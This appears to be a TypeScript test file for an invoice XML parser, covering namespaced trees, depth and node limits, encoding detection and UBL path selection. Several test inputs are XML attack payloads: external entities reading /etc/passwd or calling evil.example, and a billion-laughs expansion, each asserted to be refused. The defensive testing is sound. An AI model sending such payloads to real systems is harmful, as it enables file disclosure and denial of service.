import { MAX_XML_ATTRIBUTES, MAX_XML_DEPTH, MAX_XML_NODES } from '../limits.ts';
import { selectAll, textAt } from './xml-path.ts';
import { decodeXml } from './xml-text.ts';
import { parseXml } from './xml-tree.ts';

const codeOf = (run: () => unknown): unknown => {
  try {
    return run();
  } catch (error) {
    return (error as { code: unknown }).code;
  }
};
const parseCode = (text: string) => codeOf(() => parseXml(text));

describe('parseXml', () => {
  test('builds a namespaced tree', () => {
    const root = parseXml(
      '<p:a xmlns:p="urn:p" id="1" p:id="2">x<b xmlns="urn:q"> y &amp; <![CDATA[<z>]]> </b>w</p:a>',
    );
    expect(root).toEqual({
      uri: 'urn:p',
      name: 'a',
      attributes: { id: '1' },
      text: 'xw',
      children: [{ uri: 'urn:q', name: 'b', attributes: {}, text: 'y & <z>', children: [] }],
    });
  });

  test.each([
    ['a DTD', '<!DOCTYPE Invoice SYSTEM "http://evil.example/x.dtd"><Invoice/>'],
    ['an empty DOCTYPE', '<!DOCTYPE Invoice><Invoice/>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><a/>'],
    [
      'a billion laughs',
      `<!DOCTYPE a [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]><a>&l9;</a>`,
    ],
    ['an entity without DTD', '<a>&xxe;</a>'],
    ['an entity named as a property', '<a>&constructor;</a>'],
  ])('refuses %s', (_, text) => {
    expect(parseCode(text)).toBe('XML_UNSAFE');
  });

  test('refuses depth over the limit, not at it', () => {
    const deep = (levels: number) => '<a>'.repeat(levels) + '</a>'.repeat(levels);
    expect(parseXml(deep(MAX_XML_DEPTH)).name).toBe('a');
    expect(parseCode(deep(MAX_XML_DEPTH + 1))).toBe('XML_UNSAFE');
  });

  test('refuses too many nodes, attributes and texts included', () => {
    expect(parseXml(`<a>${'<b/>'.repeat(MAX_XML_NODES - 1)}</a>`).children).toHaveLength(MAX_XML_NODES - 1);
    expect(parseCode(`<a>${'<b/>'.repeat(MAX_XML_NODES)}</a>`)).toBe('XML_UNSAFE');
    expect(parseCode(`<a>${'<b c="1">d</b>'.repeat(MAX_XML_NODES / 3 + 1)}</a>`)).toBe('XML_UNSAFE');
  });

  test('refuses an element with more attributes than any invoice has', () => {
    const attributes = (count: number) => Array.from({ length: count }, (_, n) => `a${n}="1"`).join(' ');
    const element = `<b ${attributes(MAX_XML_ATTRIBUTES)}/>`;
    expect(parseXml(`<a>${element.repeat(3)}</a>`).children).toHaveLength(3);
    expect(parseCode(`<a ${attributes(MAX_XML_ATTRIBUTES + 1)}/>`)).toBe('XML_UNSAFE');
  });

  test.each(['', '<a>', '<a></b>', '<p:a/>', '<a/><b/>', '<a x="1" x="2"/>', '<a>\u0000</a>', '<a>&#0;</a>'])(
    'says that « %s » is unreadable',
    (text) => {
      expect(parseCode(text)).toBe('FILE_UNREADABLE');
    },
  );
});

describe('decodeXml', () => {
  const text = '<?xml version="1.0" encoding="UTF-8"?><a>Hôtel €</a>';
  const declared = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?><a>Hôtel</a>`;

  test('reads UTF-8 and UTF-16 by their mark or their zeros, whatever is declared', () => {
    const swap = (bytes: Buffer) => Buffer.from(bytes).swap16();
    for (const bytes of [
      Buffer.from(text),
      Buffer.from(`\ufeff${text}`),
      Buffer.from(`\ufeff${text}`, 'utf16le'),
      Buffer.from(text, 'utf16le'),
      swap(Buffer.from(`\ufeff${text}`, 'utf16le')),
      swap(Buffer.from(text, 'utf16le')),
    ]) {
      expect(decodeXml(bytes)).toBe(text);
    }
    expect(decodeXml(Buffer.from(declared('utf-16')))).toBe(declared('utf-16'));
  });

  test('reads ISO-8859-1 as declared', () => {
    for (const encoding of ['ISO-8859-1', 'windows-1252', 'ISO-8859-15']) {
      expect(decodeXml(Buffer.from(declared(encoding), 'latin1'))).toBe(declared(encoding));
    }
  });

  test('refuses bytes that contradict the encoding, and encodings nobody bills in', () => {
    expect(codeOf(() => decodeXml(Buffer.from(declared('UTF-8'), 'latin1')))).toBe('FILE_UNREADABLE');
    expect(codeOf(() => decodeXml(Buffer.from(declared('UTF-7'))))).toBe('FILE_UNREADABLE');
    expect(codeOf(() => decodeXml(Buffer.from(declared('IBM500'))))).toBe('FILE_UNREADABLE');
  });
});

describe('paths', () => {
  const cbc = 'urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2';
  const cac = 'urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2';
  const root = parseXml(`<r xmlns:x="${cbc}" xmlns:y="${cac}">
    <y:Party><x:ID schemeID="A">1</x:ID><x:ID>2</x:ID><ID>3</ID></y:Party>
    <y:Party><x:ID/><x:Name>n</x:Name></y:Party></r>`);

  test('follow the namespace, not the prefix', () => {
    expect(selectAll(root, 'cac:Party/cbc:ID').map((node) => node.text)).toEqual(['1', '2', '']);
    expect(textAt(root, 'cac:Party/cbc:ID')).toBe('1');
    expect(textAt(root, 'cbc:ID')).toBeNull();
  });

  test('take the predicates we use', () => {
    expect(textAt(root, "cac:Party/cbc:ID[@schemeID='A']")).toBe('1');
    expect(textAt(root, "cac:Party/cbc:ID[not(@schemeID='A')]")).toBe('2');
    expect(selectAll(root, "cac:Party[cbc:Name='n']")).toHaveLength(1);
  });

  test('throw on what they do not know', () => {
    expect(() => selectAll(root, 'nope:ID')).toThrow('Unknown prefix');
    expect(() => selectAll(root, 'cbc:ID[2]')).toThrow('Unsupported predicate');
  });
});
